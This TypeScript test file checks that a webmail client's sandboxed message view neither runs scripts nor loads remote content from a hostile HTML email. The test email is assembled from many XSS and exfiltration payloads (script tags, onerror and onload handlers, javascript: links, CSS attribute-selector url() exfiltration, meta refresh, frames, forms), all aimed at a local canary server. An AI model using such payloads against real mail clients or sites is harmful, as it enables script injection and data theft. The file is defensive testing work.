// A hostile HTML message in the webmail: scripts, event handlers, javascript: links, CSS exfiltration
// (attribute selectors with remote url()s, @import), remote images, frames, objects, meta refresh and
// forms. Nothing may run and nothing may be fetched from another host — asserted with every request the
// page makes and a loopback canary server that records what reaches it — while the message's own cid:
// image is shown, and remote images load only after the user allows them for that message.
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, describe, it } from "node:test";
import nodemailer from "nodemailer";
import type { Browser } from "playwright-core";
import { startTestServer, type TestServer } from "./helpers/test-server.js";
import { launchBrowser, openWebmail, rowWithSubject, type WebmailPage } from "./helpers/webmail-browser.js";

const ALICE = "alice@example.test";
// A 1×1 PNG.
const PIXEL_BASE64 =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

function hostileMessage(canary: string): Buffer {
  const html = `<html><head>
<meta http-equiv="refresh" content="0;url=${canary}/meta-refresh">
<base href="${canary}/base/">
<link rel="stylesheet" href="${canary}/link.css">
<style>
@import url("${canary}/import.css");
input[value^="a"] { background: url(${canary}/exfil-a); }
body { background-image: url('//${canary.replace(/^http:\/\//, "")}/protocol-relative'); }
</style>
<script>document.documentElement.setAttribute("data-pwned", "script"); new Image().src = "${canary}/script";</script>
</head><body onload="document.documentElement.setAttribute('data-pwned', 'onload')">
<h1 id="greeting">Hello from a hostile sender</h1>
<p style="background:url(${canary}/inline-style)">Styled paragraph.</p>
<img id="remote" src="${canary}/remote.png" alt="remote">
<img src="x" onerror="document.documentElement.setAttribute('data-pwned', 'onerror'); new Image().src='${canary}/onerror'">
<img srcset="${canary}/srcset.png 2x">
<img id="inline" src="cid:pixel@example.test" alt="inline">
<svg><script>document.documentElement.setAttribute("data-pwned", "svg")</script><image href="${canary}/svg-image"/></svg>
<iframe src="${canary}/frame"></iframe>
<object data="${canary}/object"></object>
<embed src="${canary}/embed">
<video poster="${canary}/poster.png"></video>
<form action="${canary}/form"><input name="secret" value="abc"><button>Go</button></form>
<a id="js-link" href="javascript:document.documentElement.setAttribute('data-pwned','link')">click me</a>
<a id="plain-link" href="https://example.test/page">a link</a>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
</body></html>`;
  return Buffer.from(
    [
      "From: Mallory <mallory@example.test>",
      `To: ${ALICE}`,
      "Subject: Hostile HTML",
      "Message-ID: <hostile@example.test>",
      "MIME-Version: 1.0",
      'Content-Type: multipart/related; boundary="rel"',
      "",
      "--rel",
      "Content-Type: text/html; charset=utf-8",
      "",
      html,
      "--rel",
      "Content-Type: image/png",
      "Content-Transfer-Encoding: base64",
      "Content-ID: <pixel@example.test>",
      'Content-Disposition: inline; filename="pixel.png"',
      "",
      PIXEL_BASE64,
      "--rel--",
      "",
    ].join("\r\n"),
  );
}

describe("webmail: a hostile HTML message runs nothing and loads nothing remote (Chromium)", () => {
  let server: TestServer;
  let canary: Server;
  let canaryUrl: string;
  const canaryHits: string[] = [];
  let browser: Browser;
  let web: WebmailPage;
  let origin: string;

  before(async () => {
    canary = createServer((req, res) => {
      canaryHits.push(req.url ?? "");
      res.writeHead(200, { "content-type": "image/png" });
      res.end(Buffer.from(PIXEL_BASE64, "base64"));
    });
    await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
    // "localhost" rather than 127.0.0.1: another origin than the webmail's, as a remote host would be.
    canaryUrl = `http://localhost:${(canary.address() as AddressInfo).port}`;
    server = await startTestServer();
    await server.addUser(ALICE);
    const lmtp = nodemailer.createTransport({
      host: "127.0.0.1",
      port: server.port("lmtp"),
      lmtp: true,
      ignoreTLS: true,
    });
    await lmtp.sendMail({
      envelope: { from: "mallory@example.test", to: [ALICE] },
      raw: hostileMessage(canaryUrl),
    });
    browser = await launchBrowser();
    origin = `http://127.0.0.1:${server.port("http")}`;
    web = await openWebmail(browser, origin, ALICE);
  });
  after(async () => {
    await web?.close();
    await browser?.close();
    await server?.stop();
    canary?.closeAllConnections();
    await new Promise((resolve) => canary?.close(resolve));
  });

  it("shows the message sandboxed, with its cid: image, and nothing runs or loads", async () => {
    const { page } = web;
    await rowWithSubject(page, "Hostile HTML").click();
    const iframe = page.locator("iframe.html-body");
    await iframe.waitFor();
    assert.equal(await iframe.getAttribute("sandbox"), "allow-popups allow-popups-to-escape-sandbox");
    const body = page.frameLocator("iframe.html-body");
    await body.locator("#greeting", { hasText: "Hello from a hostile sender" }).waitFor();
    // The inline image is the message's own part, as a data: URL.
    await body.locator("#inline[src^='data:image/png;base64,']").waitFor();
    await page.getByRole("button", { name: "Load remote images" }).waitFor();
    // Give anything that might run or load a moment to do so, then look.
    await page.waitForTimeout(500);
    assert.equal(await body.locator("[data-pwned]").count(), 0, "a script ran in the message frame");
    assert.equal(await body.locator("script").count(), 0);
    // The frame's own head has only the webmail's meta tags (charset, CSP, referrer).
    assert.equal(await body.locator("body :is(iframe, object, embed, form, meta, link, base)").count(), 0);
    assert.equal(await body.locator("meta").count(), 3);
    assert.equal(await body.locator("[onerror], [onload]").count(), 0);
    assert.equal(await body.locator("#remote").getAttribute("src"), null);
    assert.equal(await body.locator("#js-link").getAttribute("href"), null);
    assert.equal(await body.locator("#plain-link").getAttribute("target"), "_blank");
    assert.equal(await page.locator("html[data-pwned]").count(), 0);
    assert.deepEqual(canaryHits, [], "the canary was contacted");
    const foreign = web.requests.filter(
      (url) => !url.startsWith(`${origin}/`) && !/^(data|blob|about):/.test(url),
    );
    assert.deepEqual(foreign, [], "the page requested another host");
  });

  it("loads remote images only when allowed, and still runs no script", async () => {
    const { page } = web;
    await page.getByRole("button", { name: "Load remote images" }).click();
    const body = page.frameLocator("iframe.html-body");
    await body.locator(`#remote[src="${canaryUrl}/remote.png"]`).waitFor();
    for (let attempt = 0; attempt < 50 && !canaryHits.includes("/remote.png"); attempt++) {
      await page.waitForTimeout(100);
    }
    // The canary works: the allowed image reached it. Scripts and active content still did not.
    assert.ok(canaryHits.includes("/remote.png"), `canary saw ${JSON.stringify(canaryHits)}`);
    const active = canaryHits.filter((hit) =>
      [
        "/script",
        "/onerror",
        "/frame",
        "/object",
        "/embed",
        "/form",
        "/meta-refresh",
        "/link.css",
        "/import.css",
      ].includes(hit),
    );
    assert.deepEqual(active, []);
    assert.equal(await body.locator("[data-pwned]").count(), 0);
  });
});
